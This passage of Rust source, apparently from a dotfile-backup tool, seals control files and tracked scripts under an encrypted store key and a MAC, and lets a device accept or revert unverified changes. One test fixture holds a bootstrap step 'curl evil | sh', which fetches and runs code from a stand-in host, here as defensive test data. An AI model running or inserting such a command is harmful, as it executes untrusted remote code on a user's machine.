    match crate::merge::text::merge(&text(b)?, &text(o)?, &text(t)?, labels) {
        crate::merge::text::TextMerge::Clean(m) => Some(m.into_bytes()),
        _ => None,
    }
}

/// Whether one of `ids` is among the set's recipients.
fn is_recipient(set: &ControlSet, ids: &[Identity]) -> bool {
    let Ok(r) = set.recipients() else { return false };
    let all: Vec<String> = r.all().iter().map(|r| r.to_string()).collect();
    ids.iter().any(|id| all.contains(&id.public().to_string()))
}

fn held(store: &Store, trusted: &ControlSet, current: &ControlSet, why: &str) -> Result<Held, TrustError> {
    let mut files: Vec<String> =
        (0..CONTROL.len()).filter(|&i| current.files[i] != trusted.files[i]).map(|i| CONTROL[i].to_string()).collect();
    let code = current.code_changed(trusted);
    files.extend(code.iter().cloned());
    let paths: Vec<&str> = files.iter().map(String::as_str).collect();
    let commit = store.last_change(&paths)?.map(|c| c.to_string());
    Ok(Held { files, code, commit, why: why.to_string() })
}

/// Writes `set` sealed into the store's work tree: `key.age` encrypted to its recipients (a new
/// store key when `rotate`, or when there is none), and the MAC under the key this device trusted
/// (`old`), so other devices verify the change with what they hold, one generation above the
/// trusted one and `floor`. `reencrypt`: the set's `key.age` may hold another key than `old`
/// (a merge). Saves it as trusted.
fn seal(
    ctx: &Context,
    trusted: &ControlSet,
    mut set: ControlSet,
    old: Option<StoreKey>,
    rotate: bool,
    floor: u64,
    reencrypt: bool,
) -> Result<ControlSet, TrustError> {
    let recipients = set.recipients()?.all();
    // Above what it replaces too, when that was sealed under the same key (the first store key
    // of an older store, accepted on another device).
    let replaced = if old.as_ref().is_some_and(|k| set.verifies(k)) { set.generation() } else { 0 };
    let new_key = match (&old, rotate) {
        (Some(k), false) => k.copy(),
        _ => StoreKey::generate(),
    };
    let recipients_changed = set.files[RECIPIENTS] != trusted.files[RECIPIENTS];
    let stale = set.files[KEY] != trusted.files[KEY];
    if rotate || reencrypt || old.is_none() || recipients_changed || stale {
        if recipients.is_empty() {
            return Err(crypt::CryptError::EmptyRecipients { path: ctx.store.join(CONTROL[RECIPIENTS]) }.into());
        }
        let cipher = crypt::encrypt(&new_key.0[..], &recipients)?;
        write_store_file(&ctx.store, CONTROL[KEY], &cipher)?;
        set.files[KEY] = Some(cipher);
    }
    let generation = trusted.generation().max(floor).max(replaced).saturating_add(1);
    let macs: Vec<&StoreKey> = match &old {
        Some(k) if !k.same(&new_key) => vec![k, &new_key],
        _ => vec![&new_key],
    };
    let mac = set.mac_file(&macs, generation);
    write_store_file(&ctx.store, MAC, &mac)?;
    set.mac = Some(mac);
    save_trusted(&ctx.paths.state_dir, &set)?;
    Ok(set)
}

fn write_store_file(store: &Path, rel: &str, data: &[u8]) -> Result<(), TrustError> {
    let path = store.join(rel);
    Ok(crate::fsutil::write_atomic_beneath(store, &path, data, 0o644).context(Op::Write, &path)?)
}

/// Seals the store's current control files as this device's own change (after `keys` edits the
/// recipients or the recovery key, or at init). `rotate` makes a new store key (a device was
/// removed, or the recovery key replaced): from then on the old key authorises nothing.
pub fn authorize(ctx: &Context, ids: &[Identity], rotate: bool) -> Result<(), TrustError> {
    let current = ControlSet::read(&Store::open(&ctx.store)?)?;
    let trusted = load_trusted(&ctx.paths.state_dir)?.unwrap_or_default();
    let old = sealing_key(&trusted, &current, ids)
        .map_err(|why| TrustError::NoKey { path: ctx.store.join(CONTROL[KEY]), why })?;
    seal(ctx, &trusted, current, old, rotate, 0, false)?;
    Ok(())
}

/// The trust of a device about to act with `ids` (the recovery identity on a new machine): when
/// the set it first trusted is not sealed under its own key, as `ids` decrypt it (a change was
/// waiting unsettled when this device first ran), it trusts the newest sealed state in the
/// store's history instead, and the change shows as held back.
pub fn anchor(ctx: &Context, store: &Store, ids: &[Identity]) -> Result<Trust, TrustError> {
    if let Some(trusted) = load_trusted(&ctx.paths.state_dir)?
        && trusted.files[KEY].is_some()
        && !trusted.self_sealed(ids)
        && let Some(sealed) = newest_self_sealed(store, ids)?
    {
        save_trusted(&ctx.paths.state_dir, &sealed)?;
    }
    evaluate(ctx, store, &|| Ok(ids.to_vec()), true)
}

/// `dotback keys accept`: the user takes the held-back change as their own and seals it.
pub fn accept(ctx: &Context, store: &Store, ids: &[Identity]) -> Result<Vec<String>, TrustError> {
    let t = evaluate(ctx, store, &|| Ok(ids.to_vec()), true)?;
    if t.held.is_none() {
        return Err(TrustError::NothingHeld);
    }
    let current = ControlSet::read(store)?;
    current.manifest(&Manifest::path_in(&ctx.store))?;
    let said = describe_change(&t.trusted, &current);
    let old = sealing_key(&t.trusted, &current, ids)
        .map_err(|why| TrustError::NoKey { path: ctx.store.join(CONTROL[KEY]), why })?;
    seal(ctx, &t.trusted, current, old, false, 0, false)?;
    Ok(said)
}

/// `dotback keys revert`: puts the trusted control files and code back into the store's work
/// tree (the code from git's objects; a code file this device never trusted is removed).
pub fn revert(ctx: &Context, store: &Store) -> Result<Vec<String>, TrustError> {
    let t = evaluate(ctx, store, &|| Err("not needed".into()), false)?;
    let Some(held) = t.held else { return Err(TrustError::NothingHeld) };
    for (rel, content) in CONTROL.iter().zip(&t.trusted.files).chain(std::iter::once((&MAC, &t.trusted.mac))) {
        clear(&ctx.store.join(rel))?;
        if let Some(c) = content {
            write_store_file(&ctx.store, rel, c)?;
        }
    }
    if let Some(trusted) = &t.trusted.code {
        for rel in code::of_work_tree(store)?.changed(trusted) {
            let path = ctx.store.join(&rel);
            clear(&path)?;
            match trusted.get(&rel) {
                Some(f) => {
                    let id = git2::Oid::from_str(&f.id).map_err(|source| StoreError::Git {
                        what: "read blob",
                        path: path.clone(),
                        source,
                    })?;
                    let data = store.blob(id)?;
                    if f.link {
                        let target = String::from_utf8_lossy(&data);
                        crate::fsutil::symlink_atomic(&target, &path).context(Op::Write, &path)?;
                    } else {
                        write_store_file(&ctx.store, &rel, &data)?;
                    }
                }
                // Gone, with the directories that held only it (an empty one would be a target).
                None => {
                    let mut dir = path.parent();
                    while let Some(d) = dir.filter(|d| *d != ctx.store) {
                        if std::fs::remove_dir(d).is_err() {
                            break;
                        }
                        dir = d.parent();
                    }
                }
            }
        }
    }
    Ok(held.files)
}

/// Removes whatever is at `path`: a directory or a link in a file's place included.
fn clear(path: &Path) -> Result<(), TrustError> {
    let gone = match std::fs::symlink_metadata(path) {
        Ok(md) if md.is_dir() => std::fs::remove_dir_all(path),
        Ok(_) => std::fs::remove_file(path),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(e),
    };
    Ok(gone.context(Op::Write, path)?)
}

/// What changed between two control sets, as sentences.
fn describe_change(old: &ControlSet, new: &ControlSet) -> Vec<String> {
    let mut out = Vec::new();
    if old.files[RECIPIENTS] != new.files[RECIPIENTS] {
        let labels = |s: &ControlSet| -> Vec<(String, String)> {
            s.recipients()
                .map(|r| r.entries.iter().map(|e| (label(&e.label), e.recipient.to_string())).collect())
                .unwrap_or_default()
        };
        let (a, b) = (labels(old), labels(new));
        let added: Vec<String> = b.iter().filter(|e| !a.contains(e)).map(|e| e.0.clone()).collect();
        let removed: Vec<String> = a.iter().filter(|e| !b.contains(e)).map(|e| e.0.clone()).collect();
        let mut s = "the recipients changed".to_string();
        if !added.is_empty() {
            s.push_str(&format!(" (added: {})", added.join(", ")));
        }
        if !removed.is_empty() {
            s.push_str(&format!(" (removed: {})", removed.join(", ")));
        }
        out.push(s);
    }
    if old.files[1] != new.files[1] {
        out.push("the recovery key changed".into());
    }
    if old.files[4..] != new.files[4..] {
        out.push("the exported GPG keys or ownertrust changed".into());
    }
    if old.files[MANIFEST] != new.files[MANIFEST] {
        let parse = |s: &ControlSet| s.manifest(Path::new(CONTROL[MANIFEST])).ok();
        match (parse(old), parse(new)) {
            (Some(a), Some(b)) => {
                if a.secrets != b.secrets {
                    out.push("the secret rules changed".into());
                }
                if a.only != b.only {
                    out.push("the [[only]] rules changed".into());
                }
                if a.bootstrap != b.bootstrap {
                    out.push("the bootstrap steps changed".into());
                }
            }
            _ => out.push("the manifest changed".into()),
        }
    }
    if old.files[KEY] != new.files[KEY] && old.files[KEY].is_some() && old.files[RECIPIENTS] == new.files[RECIPIENTS] {
        out.push("the store key was replaced".into());
    }
    let code = new.code_changed(old);
    if !code.is_empty() {
        const SHOWN: usize = 5;
        let mut names = code[..code.len().min(SHOWN)].join(", ");
        if code.len() > SHOWN {
            names.push_str(&format!(" and {} more", code.len() - SHOWN));
        }
        out.push(format!("the code chezmoi runs or evaluates changed ({names})"));
    }
    out
}

fn label(l: &Label) -> String {
    match l {
        Label::Device(n) => format!("device {n}"),
        Label::Recovery => "the recovery key".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(recipients: &str, manifest: &str) -> ControlSet {
        let mut s = ControlSet::default();
        s.files[RECIPIENTS] = Some(recipients.as_bytes().to_vec());
        s.files[MANIFEST] = Some(manifest.as_bytes().to_vec());
        s
    }

    #[test]
    fn a_seal_verifies_only_its_files_under_its_key() {
        let k = StoreKey::generate();
        let mut s = set("age1a", "version = 1\n");
        s.mac = Some(s.mac_file(&[&k], 3));
        assert_eq!(s.generation(), 3);
        assert!(s.verifies(&k));
        assert!(!s.verifies(&StoreKey::generate()), "another key");
        let mut changed = s.clone();
        changed.files[MANIFEST] = Some(b"version = 1\n[secrets]\nreplace_defaults = true\n".to_vec());
        assert!(!changed.verifies(&k), "a changed manifest");
        let mut added = s.clone();
        added.files[1] = Some(b"x".to_vec());
        assert!(!added.verifies(&k), "a file that was absent");
        let mut moved = s.clone();
        moved.files.swap(0, 2);
        assert!(!moved.verifies(&k), "contents moved between files");
        let mut garbled = s.clone();
        garbled.mac = Some(b"dotback control MAC v1\n3\nzz\n".to_vec());
        assert!(!garbled.verifies(&k));
        let mac = String::from_utf8(s.mac.clone().unwrap()).unwrap();
        garbled.mac = Some(mac.replace("\n3\n", "\n4\n").into_bytes());
        assert!(!garbled.verifies(&k), "the generation is sealed too");
        garbled.mac = None;
        assert!(!garbled.verifies(&k));
    }

    fn listing(files: &[(&str, &str)]) -> code::Listing {
        code::Listing::new(
            files
                .iter()
                .map(|(p, id)| code::CodeFile { path: p.to_string(), id: id.to_string(), link: false })
                .collect(),
        )
    }

    #[test]
    fn the_code_is_sealed_beside_the_files_and_an_older_seal_still_verifies_them() {
        let k = StoreKey::generate();
        let mut s = set("age1a", "version = 1\n");
        s.code = Some(listing(&[("run_once_x.sh", "aa")]));
        s.mac = Some(s.mac_file(&[&k], 2));
        assert!(s.verifies(&k) && s.covers_code(&k) && s.seals_code());
        let mut pushed = s.clone();
        pushed.code = Some(listing(&[("run_once_x.sh", "aa"), ("run_once_y.sh", "bb")]));
        assert!(pushed.verifies(&k), "the control files are as sealed");
        assert!(!pushed.covers_code(&k), "an added script is not");
        assert!(!pushed.authentic(&k, &s) && s.authentic(&k, &s));
        let mut moved = s.clone();
        moved.code = Some(listing(&[("run_once_z.sh", "aa")]));
        assert!(!moved.covers_code(&k), "a renamed script is not");
        assert!(!s.covers_code(&StoreKey::generate()));

        // What a dotback from before code was sealed reads: every line hex, the files' MAC among
        // them, the code's a length no MAC of its has.
        let text = String::from_utf8(s.mac.clone().unwrap()).unwrap();
        let lines: Vec<Vec<u8>> = text.lines().skip(2).map(|l| unhex(l).unwrap()).collect();
        assert_eq!(lines.iter().map(Vec::len).collect::<Vec<_>>(), [32, 34]);
        // And what it writes: the files' MAC alone, which this one takes for the files.
        let mut legacy = s.clone();
        legacy.mac = Some(format!("{MAC_HEADER}\n2\n{}\n", hex(&lines[0])).into_bytes());
        assert!(legacy.verifies(&k) && !legacy.seals_code() && !legacy.covers_code(&k));
        assert!(legacy.authentic(&k, &s), "its code is what the device trusts");
        assert!(!legacy.authentic(&k, &pushed), "but a code change it does not cover");
    }

    #[test]
    fn hex_round_trips() {
        assert_eq!(unhex(&hex(&[0, 1, 254, 255])), Some(vec![0, 1, 254, 255]));
        assert_eq!(unhex("abc"), None);
        assert_eq!(unhex("zz"), None);
    }

    #[test]
    fn changes_are_described() {
        let a = set("", "version = 1\n");
        let b = set("", "version = 1\n[secrets]\nnot = [\".pgpass\"]\n");
        assert_eq!(describe_change(&a, &b), ["the secret rules changed"]);
        let c = set("", "version = 1\n[[only]]\npaths = [\"x\"]\ndevices = [\"d\"]\n");
        assert_eq!(describe_change(&a, &c), ["the [[only]] rules changed"]);
        let d = set("", "version = 1\n[[bootstrap.step]]\nname = \"x\"\nrun = \"curl evil | sh\"\n");
        assert_eq!(describe_change(&a, &d), ["the bootstrap steps changed"]);
        assert!(describe_change(&a, &a).is_empty());
    }
}
